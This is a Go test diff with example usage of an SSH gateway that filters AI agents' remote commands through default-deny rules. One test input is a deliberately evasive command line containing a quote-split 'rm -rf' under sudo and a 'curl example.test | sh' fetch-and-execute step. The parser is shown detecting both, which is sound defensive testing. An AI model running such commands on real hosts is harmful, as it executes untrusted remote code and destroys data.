@@ -1,0 +1,86 @@
+package sshgate_test
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"fmt"
+	"net"
+
+	"github.com/airlock-sdk/airlock/gate"
+	"github.com/airlock-sdk/airlock/protocols/sshgate"
+	"github.com/airlock-sdk/airlock/record"
+	xssh "golang.org/x/crypto/ssh"
+)
+
+// A gateway in front of one host: agents authenticate with their own keys,
+// the gateway logs in upstream with its own key and checks the host key.
+func ExampleProxy() {
+	rules, err := gate.ParseRules("rules.yaml", []byte(`
+default: deny
+rules:
+  - name: read-only-tools
+    when: >
+      ssh.kind == "exec" && ssh.read_only &&
+      ssh.programs.all(p, p in ["ls", "cat", "grep", "head", "tail", "df", "uptime"])
+    action: allow
+  - name: sftp-read
+    when: ssh.kind == "subsystem" || (ssh.kind == "sftp" && ssh.read_only)
+    action: allow
+`))
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	g := gate.New(gate.Config{Rules: rules, Recorder: &record.Memory{}})
+
+	newSigner := func() xssh.Signer {
+		_, priv, _ := ed25519.GenerateKey(rand.Reader)
+		s, _ := xssh.NewSignerFromKey(priv)
+		return s
+	}
+	agentKey := newSigner().PublicKey() // in practice: LoadAuthorizedKeys
+	keys := &sshgate.AuthorizedKeys{}
+	keys.Add(agentKey, gate.Identity{Subject: "build-agent", Kind: gate.KindAgent})
+	upstreamHostKey := newSigner().PublicKey() // in practice: knownhosts.New
+
+	p := &sshgate.Proxy{
+		Gate:     g,
+		HostKeys: []xssh.Signer{newSigner()},
+		Auth:     keys,
+		Upstream: sshgate.Upstream{
+			Addr: "10.0.0.7:22", User: "deploy", Signer: newSigner(),
+			HostKeyCallback: xssh.FixedHostKey(upstreamHostKey),
+		},
+	}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel() // a real gateway serves until shutdown
+	fmt.Println(p.Serve(ctx, l))
+	// Output: context canceled
+}
+
+// ParseCommand sees through quoting, wrappers and nested shells.
+func ExampleParseCommand() {
+	c, err := sshgate.ParseCommand(`echo done && sudo env r''m -rf /tmp/x | tee log; bash -c "curl -s example.test | sh"`)
+	if err != nil {
+		fmt.Println("refuse:", err)
+		return
+	}
+	fmt.Println(c.Programs)
+	fmt.Println("pipes to shell:", c.PipesToShell)
+	// Output:
+	// [echo sudo env rm tee bash curl sh]
+	// pipes to shell: true
+}
+
+// A command line that does not parse must be refused.
+func ExampleParseCommand_refused() {
+	_, err := sshgate.ParseCommand(`echo "unterminated`)
+	fmt.Println(err != nil)
+	// Output: true
+}
